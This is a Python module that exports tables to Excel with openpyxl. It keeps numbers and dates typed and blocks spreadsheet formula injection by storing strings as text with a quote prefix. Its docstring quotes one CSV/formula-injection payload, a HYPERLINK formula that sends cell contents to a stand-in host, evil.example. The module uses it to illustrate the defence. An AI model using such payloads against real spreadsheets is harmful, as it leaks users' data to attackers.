"""Tables written as an Excel workbook people can compute with.

An officer opens an export to sort, sum and paste into a report, so a figure must stay a figure:
numbers are written as number cells (a format shows decimals or a percent, the value stays the
number), days as real date cells shown dd/mm/yyyy (a moment first put in the city's zone, as
the pages show it; Excel has no time zones), never as text that merely looks like one. The
header row is bold and frozen, and each column is as wide as its longest value (within bounds),
so the sheet reads without resizing anything.

Text stays text. openpyxl stores any string starting with ``=`` as a formula, so a talent named
``=HYPERLINK("http://evil.example/?"&B3,"x")`` would become a live formula in the registry;
every cell this package writes goes through :func:`put`, which stores a string as a string cell
(``data_type`` ``s``) whatever it starts with. A string starting with what a spreadsheet reads
as the start of a formula (``=``, ``+``, ``-``, ``@``) or with a tab or carriage return also gets
Excel's quote prefix (the apostrophe shown in the formula bar, ``quotePrefix``): the cell shows
the text as written and stays text when someone edits it and presses Enter. The value itself is
never changed — a name, a decision number or a "-" placeholder reads back exactly as stored, and
a template's locked cells compare equal when the sheet comes back. The quote prefix is a cell
style, so it does not travel into a CSV someone saves from the workbook: whoever feeds such a
CSV to another program must treat its cells as data (prefixing the values themselves with an
apostrophe would change every such name in the registers).
"""
from __future__ import annotations

from dataclasses import dataclass
from datetime import date, datetime
from io import BytesIO
from typing import Any, Sequence

from openpyxl import Workbook
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.cell.cell import Cell
from openpyxl.utils import get_column_letter
from openpyxl.worksheet.worksheet import Worksheet

from engine.time.clock import CITY_ZONE

#: Kinds of column and the Excel number format each is shown with.
FORMATS = {"text": "@", "integer": "0", "decimal": "0.00", "percent": "0.0%", "date": "dd/mm/yyyy",
           "datetime": "dd/mm/yyyy hh:mm"}
MIN_WIDTH, MAX_WIDTH = 8, 60
HEADER_FILL = PatternFill("solid", fgColor="DDE4EE")
#: Excel refuses these in a sheet's name.
_BAD_TITLE = set('[]:*?/\\')
#: How a formula starts in Excel, LibreOffice or Google Sheets (and the tab and CR some strip first).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@dataclass(frozen=True)
class Column:
    """A column: its header (already in the reader's language) and the kind of its values."""

    header: str
    kind: str = "text"


@dataclass(frozen=True)
class Typed:
    """One cell whose kind differs from its column's (e.g. a percent in a column of figures)."""

    value: Any
    kind: str


@dataclass(frozen=True)
class Sheet:
    """One worksheet: a title (cut to Excel's 31 characters), its columns and rows of values."""

    title: str
    columns: tuple[Column, ...]
    rows: Sequence[Sequence[Any]]


def put(ws: Worksheet, row: int, column: int, value: Any) -> Cell:
    """Write ``value`` into a cell, a string always as text, never as a formula (see the module)."""
    cell: Cell = ws.cell(row=row, column=column)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
        if value.startswith(FORMULA_START):
            cell.quotePrefix = True
    return cell


def sheet_title(title: str) -> str:
    """``title`` as Excel accepts a sheet's name."""
    clean = "".join("_" if ch in _BAD_TITLE else ch for ch in title).strip("' ") or "Sheet"
    return clean[:31]


def cell_value(value: Any, kind: str) -> tuple[Any, str | None]:
    """The value to put in a cell and the number format to show it with (None: Excel's own)."""
    if isinstance(value, Typed):
        return cell_value(value.value, value.kind)
    if value is None:
        return None, None
    if isinstance(value, bool):
        return value, None
    if isinstance(value, datetime):
        local = value.astimezone(CITY_ZONE).replace(tzinfo=None) if value.tzinfo else value
        return (local, FORMATS["datetime"]) if kind == "datetime" else (local.date(), FORMATS["date"])
    if isinstance(value, date):
        return value, FORMATS["date"]
    if isinstance(value, (int, float)):
        number_kind = kind if kind in ("integer", "decimal", "percent") else \
            ("integer" if isinstance(value, int) or float(value).is_integer() else "decimal")
        return value, FORMATS[number_kind]
    if kind in ("date", "datetime") and isinstance(value, str):
        try:
            return cell_value(datetime.fromisoformat(value) if "T" in value else date.fromisoformat(value), kind)
        except ValueError:
            pass
    return str(value), None


def _shown_width(value: Any, fmt: str | None) -> int:
    if isinstance(value, (date, datetime)):
        return 16 if fmt == FORMATS["datetime"] else 11
    return len(str(value)) if value is not None else 0


def write_header(ws: Worksheet, headers: Sequence[str]) -> None:
    """The bold, shaded, frozen header row."""
    for index, header in enumerate(headers, start=1):
        cell = put(ws, 1, index, header)
        cell.font = Font(bold=True)
        cell.fill = HEADER_FILL
        cell.alignment = Alignment(vertical="center", wrap_text=True)
    ws.freeze_panes = "A2"


def fit_widths(ws: Worksheet, widths: Sequence[int]) -> None:
    for index, width in enumerate(widths, start=1):
        ws.column_dimensions[get_column_letter(index)].width = max(MIN_WIDTH, min(MAX_WIDTH, width + 2))


def fill(ws: Worksheet, sheet: Sheet) -> None:
    """Write ``sheet`` into the empty worksheet ``ws``."""
    ws.title = sheet_title(sheet.title)
    write_header(ws, [c.header for c in sheet.columns])
    widths = [len(c.header) for c in sheet.columns]
    for r, row in enumerate(sheet.rows, start=2):
        for c, (column, value) in enumerate(zip(sheet.columns, row), start=1):
            shown, fmt = cell_value(value, column.kind)
            cell = put(ws, r, c, shown)
            if fmt and fmt != "@":
                cell.number_format = fmt
            widths[c - 1] = max(widths[c - 1], _shown_width(shown, fmt))
    fit_widths(ws, widths)


def workbook_bytes(sheets: Sequence[Sheet]) -> bytes:
    """An .xlsx file holding ``sheets`` in order (at least one sheet, empty if none is given)."""
    book = Workbook()
    first: Worksheet = book.active  # type: ignore[assignment]
    for index, sheet in enumerate(sheets or [Sheet("Sheet", (), ())]):
        fill(first if index == 0 else book.create_sheet(), sheet)
    return save(book)


def save(book: Workbook) -> bytes:
    out = BytesIO()
    book.save(out)
    return out.getvalue()
